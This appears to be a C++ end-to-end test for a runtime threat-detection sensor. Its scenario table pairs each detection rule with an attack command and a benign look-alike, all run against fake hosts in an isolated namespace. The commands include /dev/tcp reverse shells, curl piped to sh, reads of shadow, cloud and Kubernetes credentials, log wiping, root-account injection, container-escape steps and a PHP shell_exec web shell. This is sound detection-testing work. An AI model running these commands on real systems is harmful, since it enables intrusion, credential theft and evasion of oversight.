// The default ruleset (rules/*.yml, compiled into vigil-sensor) proven for
// real: for every rule, the behaviour it detects is reproduced on this machine
// (inside a containerd container with pod labels when the rule is about
// containers) and must raise exactly the expected rules, and a benign
// look-alike must not raise it. Remote hosts (cloud metadata, an API server, a
// mining pool, a payload server, a DNS server answering every name) are served
// by tests/e2e/fake_remote_services.py inside a network namespace this test
// creates, which the containers join: nothing leaves the machine.
//
// One sensor, one collector and three containers for the whole table. The
// containers run from an overlay of / (so every host tool is there, and their
// writes stay in a private upper layer). Each scenario runs as
// `sh -c CMD MARKER`; an alert belongs to a scenario when the process that
// raised it descends from that shell (by exec id, from the sensor's own
// events), so other activity on the machine cannot disturb the result.
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/ascii.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "collector_harness.h"
#include "containerd_harness.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "sensor_harness.h"

namespace vigil::testing {
namespace {

namespace fs = std::filesystem;

constexpr char kRulesDir[] = VIGIL_SOURCE_DIR "/rules";
constexpr char kFakeServices[] = VIGIL_SOURCE_DIR "/tests/e2e/fake_remote_services.py";
constexpr char kPodNamespace[] = "vigil-detect";
constexpr char kMarkerPrefix[] = "vigil-scenario-";

// ---- The rules, as the repository ships them --------------------------------

struct RuleIndex {
  std::map<std::string, std::string> id_by_name, name_by_id;
  std::set<std::string> alerting;  // names of the rules that raise alerts themselves
};

// Top-level `key: value` of one YAML document (the rules keep these plain).
std::string TopLevel(absl::string_view doc, const std::string& key) {
  for (absl::string_view line : absl::StrSplit(doc, '\n')) {
    if (absl::ConsumePrefix(&line, key + ": ")) return std::string(absl::StripAsciiWhitespace(line));
  }
  return "";
}

RuleIndex ReadRules() {
  RuleIndex index;
  std::vector<fs::path> files;
  for (const auto& entry : fs::directory_iterator(kRulesDir)) {
    if (entry.path().extension() == ".yml") files.push_back(entry.path());
  }
  std::sort(files.begin(), files.end());
  for (const fs::path& file : files) {
    std::ifstream in(file);
    std::stringstream text;
    text << in.rdbuf();
    for (absl::string_view doc : absl::StrSplit(text.str(), "\n---\n")) {
      const std::string id = TopLevel(doc, "id"), name = TopLevel(doc, "name");
      if (id.empty() || name.empty()) {
        ADD_FAILURE() << file << ": a rule without id or name";
        continue;
      }
      index.id_by_name[name] = id;
      index.name_by_id[id] = name;
      // Base rules of correlations are informational and do not alert.
      if (TopLevel(doc, "level") != "informational") index.alerting.insert(name);
    }
  }
  return index;
}

// ---- The scenario table -----------------------------------------------------

enum class Where {
  kContainer,  // the "attack" container (pod attack-*, joined to the test network namespace)
  kDropper,    // a second container for the download family, whose correlation spans commands
  kHost,       // on the node itself
  kHostNetns,  // on the node, in the test network namespace (to reach its fake remote hosts)
};

struct Scenario {
  const char* rule;  // the `name:` of the rule this scenario proves
  Where where;
  // Does what the rule detects. @N@ is replaced by a nonce, @T@ by a
  // directory of the test's own on the host.
  const char* positive;
  // Rules the positive rightly raises as well (a copied binary is also drift, ...).
  std::vector<const char*> positive_also;
  Where negative_where;
  const char* negative;  // a benign look-alike: must not raise `rule`
  std::vector<const char*> negative_also = {};
};

// Addresses served in the test network namespace (every 192.0.2.0/24 address
// is local there): 192.0.2.53 DNS (every A query -> 192.0.2.30), HTTP on
// ports 80, 8000, 3333, 6443 and 10250 of every address (/payload and
// /agent return an executable), 4444 hangs up.
const std::vector<Scenario>& Scenarios() {
  constexpr Where C = Where::kContainer, D = Where::kDropper, H = Where::kHost, HN = Where::kHostNetns;
  static const auto* table = new std::vector<Scenario>{
      // reverse shells
      {"vigil_reverse_shell_stdio_socket",
       C,
       "bash -c 'exec 3<>/dev/tcp/192.0.2.20/4444; exec sh <&3 >&3 2>&3'",
       {},
       C,
       "bash -c 'exec 3<>/dev/tcp/192.0.2.20/4444; exec cat <&3 >/dev/null'; python3 -c 'import socket,subprocess; "
       "a,b=socket.socketpair(); subprocess.run([\"/bin/sh\",\"-c\",\"true\"],stdin=b,stdout=b)'"},
      {"vigil_reverse_shell_interpreter_stdio_socket",
       C,
       "bash -c 'exec 3<>/dev/tcp/192.0.2.20/4444; exec python3 -i <&3 >&3 2>&3'",
       {"vigil_reverse_shell_cmdline"},
       C,
       "echo 'print(1)' | python3 -i >/dev/null 2>&1"},
      {"vigil_reverse_shell_cmdline",
       C,
       "bash -c 'bash -i >& /dev/tcp/192.0.2.20/4444 0>&1'",
       {"vigil_reverse_shell_stdio_socket"},
       C,
       "bash -c 'echo ping > /dev/tcp/192.0.2.30/8000'"},
      // crypto mining
      {"vigil_crypto_miner_binary",
       C,
       "ln -sf /bin/true /usr/local/bin/xmrig && xmrig --help",
       {},
       C,
       "ln -sf /bin/true /usr/local/bin/xmrig-exporter && xmrig-exporter"},
      {"vigil_crypto_stratum_url",
       C,
       "/bin/true -o stratum+tcp://192.0.2.10:3333 -u wallet",
       {},
       C,
       "/bin/true --url https://192.0.2.10:3333/stratum-docs"},
      {"vigil_crypto_miner_options", C, "/bin/true --donate-level=1 -a rx/0", {}, C, "/bin/true --level=1 -a rsync"},
      {"vigil_crypto_pool_port_container",
       C,
       "python3 -c 'import socket; socket.create_connection((\"192.0.2.10\",3333),2).close()'",
       {},
       C,
       "python3 -c 'import socket; socket.create_connection((\"192.0.2.10\",8000),2).close()'"},
      {"vigil_crypto_pool_domain",
       C,
       "getent hosts pool.supportxmr.com",
       {},
       C,
       "getent hosts supportxmr.com.example.org"},
      {"vigil_crypto_modprobe_msr",
       C,
       "modprobe msr allow_writes=on 2>/dev/null",
       {},
       C,
       "modprobe -n -q loop 2>/dev/null"},
      {"vigil_ld_so_preload_write", C, "touch /etc/ld.so.preload", {}, C, "cat /etc/ld.so.preload >/dev/null 2>&1"},
      // downloads (their own container: the download-then-execute correlation spans commands)
      {"vigil_download_to_tmp",
       D,
       "curl -s -o /tmp/data-@N@ http://192.0.2.30:8000/data",
       {},
       D,
       "curl -s -o /root/data-@N@.json http://192.0.2.30:8000/data"},
      {"vigil_download_pipe_to_shell",
       D,
       "sh -c 'curl -s http://192.0.2.30:8000/script | sh'",
       {},
       D,
       "sh -c 'curl -s http://192.0.2.30:8000/data | grep -c ok'"},
      {"vigil_download_chmod_exec",
       D,
       "curl -s -o /opt/agent-@N@ http://192.0.2.30:8000/agent && chmod +x /opt/agent-@N@ && /opt/agent-@N@",
       {"vigil_download_then_exec", "vigil_container_binary_drift"},
       D,
       "curl -s -o /root/notes-@N@ http://192.0.2.30:8000/data && chmod 644 /root/notes-@N@"},
      {"vigil_download_then_exec",
       D,
       "curl -s -o /usr/local/bin/helper-@N@ http://192.0.2.30:8000/payload; python3 -c 'import os; "
       "os.chmod(\"/usr/local/bin/helper-@N@\", 0o755)'; /usr/local/bin/helper-@N@",
       {"vigil_container_binary_drift"},
       D,
       "curl -s -o /root/report-@N@.json http://192.0.2.30:8000/data; /bin/ls /root >/dev/null"},
      // drift, fileless, temporary and hidden paths
      {"vigil_container_binary_drift",
       C,
       "cp /bin/true /usr/local/bin/tool-@N@ && /usr/local/bin/tool-@N@",
       {},
       C,
       "cp /bin/true /usr/local/bin/copy-@N@; /usr/bin/true"},
      {"vigil_fileless_memfd_exec",
       C,
       "python3 -c 'import os; fd=os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\",\"rb\").read()); "
       "os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])'",
       {},
       C,
       "python3 -c 'import os; fd=os.memfd_create(\"buf\"); os.write(fd, b\"data\"); os.close(fd)'"},
      {"vigil_fileless_deleted_exec",
       C,
       "python3 -c 'import os,shutil; shutil.copy(\"/bin/true\",\"/run/d-@N@\"); "
       "fd=os.open(\"/run/d-@N@\", os.O_RDONLY); os.unlink(\"/run/d-@N@\"); "
       "os.execv(\"/proc/self/fd/%d\" % fd, [\"d\"])'",
       {},
       C,
       "python3 -c 'import os; fd=os.open(\"/bin/true\", os.O_RDONLY); os.execv(\"/proc/self/fd/%d\" % fd, [\"t\"])'"},
      {"vigil_container_exec_from_tmp",
       C,
       "cp /bin/true /tmp/run-@N@ && /tmp/run-@N@",
       {"vigil_container_binary_drift"},
       C,
       "ls /tmp >/dev/null"},
      {"vigil_exec_from_dev_shm",
       H,
       "cp /bin/true /dev/shm/vigil-@N@ && /dev/shm/vigil-@N@; rm -f /dev/shm/vigil-@N@",
       {},
       H,
       "ls /dev/shm >/dev/null"},
      {"vigil_exec_hidden_file", H, "cp /bin/true @T@/.x-@N@ && @T@/.x-@N@", {}, H, "/bin/true @T@/.x-@N@"},
      {"vigil_exec_hidden_dir_tmp",
       H,
       "mkdir -p @T@/.cache-@N@ && cp /bin/true @T@/.cache-@N@/run && @T@/.cache-@N@/run",
       {},
       H,
       "mkdir -p @T@/cache-@N@ && cp /bin/true @T@/cache-@N@/run && @T@/cache-@N@/run"},
      {"vigil_nohup_hidden_file",
       H,
       "cp /bin/true @T@/.job-@N@ && nohup @T@/.job-@N@ >/dev/null 2>&1",
       {"vigil_exec_hidden_file"},
       H,
       "nohup /bin/true >/dev/null 2>&1"},
      // credential access
      {"vigil_shadow_read", C, "cat /etc/shadow >/dev/null", {}, C, "passwd -S root >/dev/null"},
      {"vigil_service_account_token_dump",
       C,
       "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null",
       {},
       C,
       "python3 -c 'open(\"/var/run/secrets/kubernetes.io/serviceaccount/token\").read()'"},
      {"vigil_kubelet_credentials",
       C,
       "cat /etc/kubernetes/kubelet.conf >/dev/null",
       {},
       C,
       "cat /etc/kubernetes/manifests/app.yaml >/dev/null"},
      {"vigil_cloud_credentials_dump",
       C,
       "cat /root/.aws/credentials >/dev/null",
       {},
       C,
       "python3 -c 'open(\"/root/.aws/credentials\").read()'"},
      {"vigil_ssh_private_key_read",
       C,
       "mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_vigil_@N@ && "
       "cat /root/.ssh/id_vigil_@N@ >/dev/null",
       {},
       C,
       "mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_vigil_@N@ && "
       "ssh-keygen -y -f /root/.ssh/id_vigil_@N@ >/dev/null"},
      {"vigil_find_credential_files",
       C,
       "find /root /home -maxdepth 3 -name id_rsa",
       {},
       C,
       "find /var/log -maxdepth 1 -name '*.log' >/dev/null"},
      {"vigil_grep_secrets",
       C,
       "grep -rIl password /etc/default >/dev/null",
       {},
       C,
       "grep -rIl error /etc/default >/dev/null"},
      {"vigil_dev_tool_credentials_read",
       C,
       "cat /root/.git-credentials >/dev/null",
       {},
       C,
       "cat /root/.gitconfig >/dev/null"},
      {"vigil_dev_tool_credentials_file_read",
       C,
       "mkdir -p /root/.docker && echo {} >/root/.docker/config.json && tar -cf - /root/.docker | cat >/dev/null",
       {},
       C,
       "mkdir -p /root/.dockerx && echo {} >/root/.dockerx/config.json && tar -cf - /root/.dockerx | cat >/dev/null"},
      // Kubernetes API
      {"vigil_kubectl_in_container",
       C,
       "kubectl --server=https://192.0.2.40:6443 --insecure-skip-tls-verify --token=x --request-timeout=2s "
       "get pods >/dev/null 2>&1",
       {},
       H,
       "kubectl version --client >/dev/null 2>&1"},
      {"vigil_kubernetes_api_bearer_request",
       C,
       "curl -sk -m 2 -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" "
       "https://192.0.2.40:6443/api/v1/namespaces/default/pods",
       {"vigil_service_account_token_dump"},
       C,
       "curl -s -m 2 -H 'Authorization: Bearer abc' http://192.0.2.30:8000/data"},
      {"vigil_kubelet_api_from_container",
       C,
       "curl -sk -m 2 https://192.0.2.40:10250/pods",
       {},
       C,
       "curl -s -m 2 http://192.0.2.40:8000/pods"},
      // cloud metadata
      {"vigil_imds_from_container",
       C,
       "curl -s -m 2 http://169.254.169.254/latest/meta-data/instance-id; "
       "curl -s -m 2 -g 'http://[fd00:ec2::254]/latest/meta-data/'",
       {},
       C,
       "curl -s -m 2 http://192.0.2.30:8000/latest/meta-data/"},
      {"vigil_imds_credential_request",
       HN,
       "curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/",
       {},
       HN,
       "curl -s -m 2 http://169.254.169.254/latest/meta-data/instance-id"},
      // threat intelligence
      {"vigil_threat_intel_domain",
       C,
       "getent hosts mdc-eicar.alerts.security.azure.com",
       {},
       C,
       "getent hosts alerts.example.org"},
      {"vigil_threat_intel_host",
       C,
       "curl -s -m 2 http://guarddutyc2activityb.com:8000/",
       {"vigil_threat_intel_domain"},
       C,
       "curl -s -m 2 http://app.example.org:8000/"},
      // web shell: PHP's built-in server and a one-line shell_exec page
      {"vigil_webshell_recon",
       C,
       "php -S 127.0.0.1:8081 -t /srv/www >/dev/null 2>&1 & sleep 1; "
       "curl -s 'http://127.0.0.1:8081/ws.php?cmd=whoami'; kill $!",
       {"vigil_webshell_shell_from_server"},
       C,
       "php -r 'echo shell_exec(\"id\");' >/dev/null"},
      {"vigil_webshell_shell_from_server",
       C,
       "php -S 127.0.0.1:8082 -t /srv/www >/dev/null 2>&1 & sleep 1; "
       "curl -s 'http://127.0.0.1:8082/ws.php?cmd=true'; kill $!",
       {},
       C,
       "php -r 'echo shell_exec(\"true\");' >/dev/null"},
      // scanning and reconnaissance
      {"vigil_network_scanner",
       C,
       "nmap -sT -Pn -n -p 8000 192.0.2.30 >/dev/null",
       {},
       C,
       "bash -c 'echo > /dev/tcp/192.0.2.30/8000'"},
      {"vigil_scan_port_fanout",
       C,
       "python3 -c 'import socket; [socket.socket().connect_ex((\"192.0.2.50\",p)) for p in range(20000,20025)]'",
       {},
       C,
       "python3 -c 'import socket; [socket.socket().connect_ex((\"192.0.2.30\",8000)) for _ in range(25)]'"},
      {"vigil_scan_host_fanout",
       C,
       "python3 -c 'import socket; [socket.socket().connect_ex((\"192.0.2.%d\" % i,8000)) for i in range(100,125)]'",
       {},
       C,
       "python3 -c 'import socket; [socket.socket().connect_ex((\"192.0.2.%d\" % i,8000)) for i in range(100,103)]'"},
      {"vigil_recon_burst",
       C,
       "sh -c 'whoami; id; uname -a; hostname; ps; ip addr; env; true' >/dev/null",
       {},
       C,
       "sh -c 'id; hostname; true' >/dev/null"},
      // covering tracks
      {"vigil_history_cleared", C, "bash -c 'history -c'", {}, C, "wc -l /root/.bash_history >/dev/null"},
      {"vigil_history_file_deleted",
       C,
       "python3 -c 'import os; os.unlink(\"/root/.zsh_history\")'",
       {},
       C,
       "python3 -c 'import os; os.unlink(\"/root/.viminfo\")'"},
      {"vigil_system_log_deleted", C, "rm -f /var/log/auth.log", {}, C, "rm -f /var/log/app/debug.log.1"},
      {"vigil_system_log_wiped",
       C,
       "truncate -s 0 /var/log/syslog",
       {},
       C,
       "tail -n 1 /var/log/app/debug.log >/dev/null"},
      {"vigil_timestomp_touch",
       C,
       "touch /tmp/tool-@N@ && touch -r /bin/ls /tmp/tool-@N@",
       {},
       C,
       "touch /tmp/marker-@N@"},
      {"vigil_security_process_kill", C, "pkill -x osqueryd", {}, C, "pkill -x worker-@N@"},
      // accounts and SSH
      {"vigil_user_added", C, "useradd -M vt@N@", {}, C, "getent passwd root >/dev/null"},
      {"vigil_password_hash_cmdline",
       C,
       "openssl passwd -6 -salt vigil secret >/dev/null",
       {},
       C,
       "openssl rand -hex 4 >/dev/null"},
      {"vigil_account_files_write",
       C,
       "echo 'vx@N@:x:0:0::/root:/bin/sh' >> /etc/passwd",
       {},
       C,
       "grep -c root /etc/passwd >/dev/null"},
      {"vigil_ssh_authorized_keys_write",
       C,
       "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigil vigil' >> /root/.ssh/authorized_keys",
       {},
       C,
       "cat /root/.ssh/authorized_keys >/dev/null"},
      {"vigil_container_ssh_server",
       C,
       "timeout 1 dropbear -F -E -R -p 127.0.0.1:2222 >/dev/null 2>&1",
       {},
       C,
       "ssh -V 2>/dev/null"},
      {"vigil_container_ssh_port",
       C,
       "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",22)); s.listen()'",
       {},
       C,
       "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",2222)); s.listen()'"},
      // container escape
      {"vigil_container_namespace_unshare", C, "unshare -U true", {}, H, "unshare -U true"},
      {"vigil_container_namespace_clone",
       C,
       "python3 -c 'import ctypes,os; r=ctypes.CDLL(None).syscall(56, 0x10000000|17, 0, 0, 0, 0); "
       "os._exit(0) if r == 0 else r > 0 and os.waitpid(r, 0)'",
       {},
       H,
       "python3 -c 'import ctypes,os; r=ctypes.CDLL(None).syscall(56, 0x10000000|17, 0, 0, 0, 0); "
       "os._exit(0) if r == 0 else r > 0 and os.waitpid(r, 0)'"},
      {"vigil_container_setns",
       C,
       "sleep 5 & nsenter -t $! -u true; kill $!",
       {},
       C,
       "readlink /proc/self/ns/uts >/dev/null"},
      {"vigil_container_mount", C, "mount -t tmpfs none /mnt 2>/dev/null", {}, C, "cat /proc/self/mounts >/dev/null"},
      {"vigil_container_host_fs_mount",
       C,
       "mount -t cgroup -o rdma cgroup /mnt 2>/dev/null",
       {"vigil_container_mount"},
       C,
       "mount -t tmpfs none /mnt 2>/dev/null",
       {"vigil_container_mount"}},
      {"vigil_container_module_load",
       C,
       "python3 -c 'import ctypes,os; ctypes.CDLL(None).syscall(313, os.open(\"/dev/null\", os.O_RDONLY), b\"\", 0)'",
       {},
       H,
       "python3 -c 'import ctypes,os; ctypes.CDLL(None).syscall(313, os.open(\"/dev/null\", os.O_RDONLY), b\"\", 0)'"},
      {"vigil_container_bpf_load",
       C,
       "python3 -c 'import ctypes,struct; "
       "i=ctypes.create_string_buffer(bytes.fromhex(\"b7000000000000009500000000000000\"));"
       " l=ctypes.create_string_buffer(b\"GPL\"); a=ctypes.create_string_buffer(struct.pack(\"IIQQ\",1,2,"
       "ctypes.addressof(i),ctypes.addressof(l)).ljust(128,b\"\\0\")); ctypes.CDLL(None).syscall(321,5,a,128)'",
       {},
       H,
       "python3 -c 'import ctypes,struct; "
       "i=ctypes.create_string_buffer(bytes.fromhex(\"b7000000000000009500000000000000\"));"
       " l=ctypes.create_string_buffer(b\"GPL\"); a=ctypes.create_string_buffer(struct.pack(\"IIQQ\",1,2,"
       "ctypes.addressof(i),ctypes.addressof(l)).ljust(128,b\"\\0\")); ctypes.CDLL(None).syscall(321,5,a,128)'"},
      {"vigil_container_escape_tool",
       C,
       "printf '#!/bin/sh\\ntrue\\n' > /root/deepce.sh && sh /root/deepce.sh",
       {},
       C,
       "printf '#!/bin/sh\\ntrue\\n' > /root/deploy.sh && sh /root/deploy.sh"},
      {"vigil_escape_kernel_hooks_write",
       C,
       "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null",
       {},
       C,
       "cat /proc/sys/kernel/core_pattern >/dev/null"},
      {"vigil_container_runtime_socket",
       C,
       "curl -s -m 1 --unix-socket /run/containerd/containerd.sock http://localhost/v1/version",
       {},
       C,
       "curl -s -m 1 http://192.0.2.30:8000/version"},
      {"vigil_container_nsenter_host",
       C,
       "nsenter -t 1 -m -u -i -n -p true 2>/dev/null",
       {"vigil_container_setns"},
       H,
       "nsenter -t 1 -u true"},
      {"vigil_container_package_manager",
       C,
       "apt-get install -y --no-download vigil-no-such-package >/dev/null 2>&1",
       {},
       C,
       "dpkg -s bash >/dev/null"},
      // tunnels
      {"vigil_tunnel_tool",
       C,
       "ln -sf /bin/true /usr/local/bin/chisel && chisel client 192.0.2.30:8000 R:socks",
       {},
       C,
       "ln -sf /bin/true /usr/local/bin/chiselled && chiselled"},
      {"vigil_container_ssh_port_forward",
       C,
       "ssh -N -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 -D 1080 vigil@192.0.2.60 2>/dev/null",
       {},
       C,
       "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 vigil@192.0.2.60 true 2>/dev/null"},
      {"vigil_socat_relay",
       C,
       "timeout 1 socat TCP-LISTEN:9001,reuseaddr TCP:192.0.2.30:8000",
       {},
       C,
       "socat -V >/dev/null"},
  };
  return *table;
}

// Every alerting rule of the repository has its scenario (no root needed).
TEST(DetectionTable, EveryDefaultRuleHasAScenario) {
  const RuleIndex rules = ReadRules();
  std::set<std::string> covered;
  for (const Scenario& s : Scenarios()) {
    EXPECT_TRUE(rules.id_by_name.count(s.rule)) << "scenario for an unknown rule " << s.rule;
    EXPECT_TRUE(covered.insert(s.rule).second) << "two scenarios for " << s.rule;
    for (const auto* list : {&s.positive_also, &s.negative_also}) {
      for (const char* r : *list) EXPECT_TRUE(rules.id_by_name.count(r)) << s.rule << " names unknown rule " << r;
    }
    for (const char* r : s.negative_also) EXPECT_STRNE(r, s.rule) << "a negative may not expect its own rule";
  }
  for (const std::string& name : rules.alerting) EXPECT_TRUE(covered.count(name)) << "no scenario for " << name;
  EXPECT_GE(rules.alerting.size(), 50u);
}

// ---- The environment: network namespace, fake hosts, containers -------------

struct Pod {
  std::string name, uid, id, cgroup;
  std::string dir;  // upper/work/rootfs of its overlay of /
};

Pod NewPod(const std::string& prefix, const std::string& base) {
  const std::string n = Nonce();
  Pod p;
  p.name = absl::StrCat(prefix, "-", n.substr(0, 6));
  p.uid = absl::StrCat(n.substr(0, 8), "-2222-4333-8444-", std::string(12, 'b'));
  p.id = (n + n + n + n + n + n + n + n).substr(0, 64);
  p.cgroup = absl::StrCat("/kubepods/besteffort/pod", p.uid, "/", p.id);
  p.dir = absl::StrCat(base, "/", prefix);
  return p;
}

void WriteFile(const std::string& path, const std::string& text) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path) << text;
}

// What the attack container finds in place, as a node's pod would: name
// resolution through the test's DNS server, credentials of the node and the
// cloud, logs, a history, a PHP page that runs its `cmd` parameter.
void PlantFixtures(const std::string& upper) {
  WriteFile(upper + "/etc/resolv.conf", "nameserver 192.0.2.53\n");
  WriteFile(upper + "/etc/kubernetes/kubelet.conf", "apiVersion: v1\nkind: Config\n");
  WriteFile(upper + "/etc/kubernetes/manifests/app.yaml", "apiVersion: v1\nkind: Pod\n");
  WriteFile(upper + "/root/.aws/credentials", "[default]\naws_access_key_id = AKIAVIGILTEST\n");
  WriteFile(upper + "/root/.git-credentials", "https://vigil:token@git.example.org\n");
  WriteFile(upper + "/root/.gitconfig", "[user]\n\tname = vigil\n");
  WriteFile(upper + "/root/.bash_history", "ls\n");
  WriteFile(upper + "/root/.zsh_history", "ls\n");
  WriteFile(upper + "/root/.viminfo", "# viminfo\n");
  WriteFile(upper + "/var/log/auth.log", "sshd: accepted\n");
  WriteFile(upper + "/var/log/app/debug.log", "debug\n");
  WriteFile(upper + "/var/log/app/debug.log.1", "debug\n");
  WriteFile(upper + "/srv/www/ws.php", "<?php echo shell_exec($_GET['cmd']); ?>\n");
}

std::string Substitute(const std::string& cmd, const std::string& nonce, const std::string& tmp) {
  return absl::StrReplaceAll(cmd, {{"@N@", nonce}, {"@T@", tmp}});
}

std::string MarkerOf(const v1::Process& p) {
  for (const std::string& a : p.argv()) {
    if (absl::StartsWith(a, kMarkerPrefix)) return a;
  }
  return "";
}

// The scenario an event's process descends from ("" when none). The ctr
// client that starts a container scenario carries its marker and script in
// its own argv on the host; it is the test's tool, not the scenario.
std::string ScenarioOf(const v1::Event& e) {
  if (absl::EndsWith(e.process().exe(), "/ctr")) return "";
  if (std::string m = MarkerOf(e.process()); !m.empty()) return m;
  for (const v1::Process& a : e.ancestors()) {
    if (std::string m = MarkerOf(a); !m.empty()) return m;
  }
  return "";
}

bool IsAlert(const v1::Event& e) { return e.kind() == v1::EVENT_KIND_ALERT && e.has_alert(); }

class DetectionTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (!E2eUnavailableReason().empty()) return;
    char tmpl[] = "/tmp/vigil-detect-XXXXXX";
    dir_ = new std::string(mkdtemp(tmpl));
    host_tmp_ = new std::string(*dir_ + "/host");
    fs::create_directories(*host_tmp_);
    netns_ = new std::string("vigil-detect-" + Nonce().substr(0, 8));
    setup_ = new absl::Status(SetUpEnvironment());
  }

  static absl::Status SetUpEnvironment() {
    // The remote hosts' network: every 192.0.2.0/24 address, the metadata
    // service's IPv4 and IPv6 addresses, all local to a namespace of our own.
    const std::string ns = *netns_;
    for (const std::string& cmd : {absl::StrCat("ip netns add ", ns), absl::StrCat("ip -n ", ns, " link set lo up"),
                                   absl::StrCat("ip -n ", ns, " addr add 169.254.169.254/32 dev lo"),
                                   absl::StrCat("ip -n ", ns, " addr add fd00:ec2::254/128 dev lo nodad"),
                                   absl::StrCat("ip -n ", ns, " route add local 192.0.2.0/24 dev lo")}) {
      if (Shell(cmd) != 0) return absl::InternalError("network namespace set-up failed: " + cmd);
    }
    fake_pid_ = Spawn(
        {"/bin/sh", "-c",
         absl::StrCat("exec ip netns exec ", ns, " /usr/bin/python3 ", kFakeServices,
                      " 192.0.2.53 192.0.2.30 /bin/true 80 8000 3333 4444 6443 10250 >", *dir_, "/fake.log 2>&1")});
    for (absl::Time deadline = absl::Now() + absl::Seconds(10);; absl::SleepFor(absl::Milliseconds(50))) {
      if (absl::StrContains(ReadWholeFile(*dir_ + "/fake.log"), "ready")) break;
      if (absl::Now() > deadline)
        return absl::DeadlineExceededError("fake services: " + ReadWholeFile(*dir_ + "/fake.log"));
    }

    containerd_ = new Containerd(*dir_ + "/containerd");
    if (absl::Status s = containerd_->Start(); !s.ok()) return s;

    // The collector the sensor streams to: its own activity must raise nothing.
    collector_ = new CollectorProcess(*dir_ + "/collector", {"--plaintext"});
    if (absl::Status s = collector_->Start(); !s.ok()) return s;
    std::vector<std::string> flags = {"--containerd_socket=" + containerd_->socket(),
                                      "--cri_socket=", "--docker_socket=",
                                      // Every match is an alert of its own: the table asserts per scenario.
                                      "--alert_aggregation_window=0s",
                                      // This kernel has no module tracepoints.
                                      "--module_syscall_fallback=true"};
    for (std::string& f : UplinkFlags(*collector_, *dir_ + "/spool")) flags.push_back(std::move(f));
    sensor_ = new SensorProcess(flags);
    if (absl::Status s = sensor_->Start(absl::Seconds(60)); !s.ok()) return s;

    // The containers start under the sensor's eyes: runc's own work (mounts,
    // setns, capset, chown in the new pod's cgroup) is part of the baseline.
    attack_ = new Pod(NewPod("attack", *dir_));
    dropper_ = new Pod(NewPod("dropper", *dir_));
    for (Pod* p : {attack_, dropper_}) {
      if (absl::Status s = StartOverlayContainer(*p); !s.ok()) return s;
    }
    return absl::OkStatus();
  }

  // A container whose root is an overlay of / (every host tool, private
  // writes), in the test's network namespace, with the labels the kubelet
  // sets and the service account token mounted where the kubelet puts it.
  static absl::Status StartOverlayContainer(const Pod& p) {
    for (const char* sub : {"/upper", "/work", "/rootfs", "/sa"}) fs::create_directories(p.dir + sub);
    PlantFixtures(p.dir + "/upper");
    WriteFile(p.dir + "/sa/token", "eyJhbGciOiJSUzI1NiJ9.vigil-test-token\n");
    WriteFile(p.dir + "/sa/namespace", std::string(kPodNamespace) + "\n");
    if (mount("overlay", (p.dir + "/rootfs").c_str(), "overlay", 0,
              absl::StrCat("lowerdir=/,upperdir=", p.dir, "/upper,workdir=", p.dir, "/work").c_str()) != 0) {
      return absl::InternalError(absl::StrCat("overlay mount for ", p.name, ": ", strerror(errno)));
    }
    const std::string run = absl::StrCat(
        "run -d --rootfs --env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin --env HOME=/root",
        " --label io.kubernetes.pod.name=", p.name, " --label io.kubernetes.pod.namespace=", kPodNamespace,
        " --label io.kubernetes.pod.uid=", p.uid, " --label io.kubernetes.container.name=app", " --cgroup ", p.cgroup,
        " --with-ns network:/var/run/netns/", *netns_, " --mount type=bind,src=", p.dir,
        "/sa,dst=/var/run/secrets/kubernetes.io/serviceaccount,options=rbind:ro ", p.dir, "/rootfs ", p.id,
        " /bin/sleep 100000 >", p.dir, "/ctr.log 2>&1");
    if (containerd_->Ctr(run) != 0) {
      return absl::InternalError(absl::StrCat("ctr run ", p.name, ": ", ReadWholeFile(p.dir + "/ctr.log")));
    }
    return absl::OkStatus();
  }

  static void TearDownTestSuite() {
    if (sensor_ != nullptr) {
      if (sensor_->running()) StopSharedSensor(*sensor_);
      if (::testing::UnitTest::GetInstance()->Failed()) sensor_->KeepFiles();
    }
    delete sensor_;
    sensor_ = nullptr;
    for (Pod* p : {attack_, dropper_}) {
      if (p == nullptr) continue;
      if (containerd_ != nullptr) {
        containerd_->Ctr("task kill -s KILL " + p->id + " >/dev/null 2>&1");
        for (int i = 0; i < 50 && containerd_->Ctr("task rm " + p->id + " >/dev/null 2>&1") != 0; ++i) {
          absl::SleepFor(absl::Milliseconds(100));
        }
        containerd_->Ctr("containers rm " + p->id + " >/dev/null 2>&1");
      }
      umount2((p->dir + "/rootfs").c_str(), MNT_DETACH);
      delete p;
    }
    attack_ = dropper_ = nullptr;
    if (collector_ != nullptr) collector_->Stop(SIGTERM);
    delete collector_;
    collector_ = nullptr;
    delete containerd_;
    containerd_ = nullptr;
    if (fake_pid_ > 0) {
      kill(fake_pid_, SIGKILL);
      WaitExit(fake_pid_);
    }
    if (netns_ != nullptr) Shell("ip netns del " + *netns_ + " 2>/dev/null");
    if (dir_ != nullptr && !::testing::UnitTest::GetInstance()->Failed()) {
      Shell("umount -R " + *dir_ + "/containerd/root 2>/dev/null; true");
      fs::remove_all(*dir_);
    }
    delete dir_;
